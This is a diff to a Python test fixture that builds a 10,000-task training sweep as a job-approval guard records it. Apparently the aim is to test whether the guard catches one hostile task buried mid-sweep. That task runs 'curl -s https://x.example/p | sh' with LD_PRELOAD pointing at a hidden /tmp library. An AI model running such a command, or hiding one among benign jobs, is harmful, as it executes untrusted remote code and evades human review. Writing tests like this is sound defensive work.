@@ -66,10 +66,11 @@ def file_extension(project: str, card_id: str = "c-e0000000000a") -> Card:
 ODD = ["sh", "-c", "curl -s https://x.example/p | sh"]  # the one task unlike the others, deep in a sweep
 
 
-def file_sweep(project: str, n: int = 10_000, odd_at: int = 5_000, argv_bytes: int = 0) -> Card:
+def file_sweep(project: str, n: int = 10_000, odd_at: int = 5_000, argv_bytes: int = 0,
+               odd: list[str] | None = None) -> Card:  # fmt: skip
     """A sweep's card as the guard files it (no grant covers a GPU): n tasks of `python train.py --seed=I` with
-    SEED=I, but task odd_at, which runs ODD with LD_PRELOAD set (the card lists the first tasks only: ADR 0060). With
-    argv_bytes, every task's command carries that many more bytes (a big card)."""
+    SEED=I, but task odd_at, which runs `odd` (ODD) with LD_PRELOAD set (the card lists the first tasks only: ADR
+    0060). With argv_bytes, every task's command carries that many more bytes (a big card)."""
     from datetime import UTC, datetime
 
     from rsk.errors import PendingApproval
@@ -79,7 +80,7 @@ def file_sweep(project: str, n: int = 10_000, odd_at: int = 5_000, argv_bytes: i
     pad = ["x" * argv_bytes] if argv_bytes else []
 
     def argv(i: int) -> list[str]:
-        return ODD if i == odd_at else ["python", "train.py", f"--seed={i}", *pad]
+        return (odd or ODD) if i == odd_at else ["python", "train.py", f"--seed={i}", *pad]
 
     def env(i: int) -> list[str]:
         return [f"SEED={i}", *(["LD_PRELOAD=/tmp/.x.so"] if i == odd_at else [])]
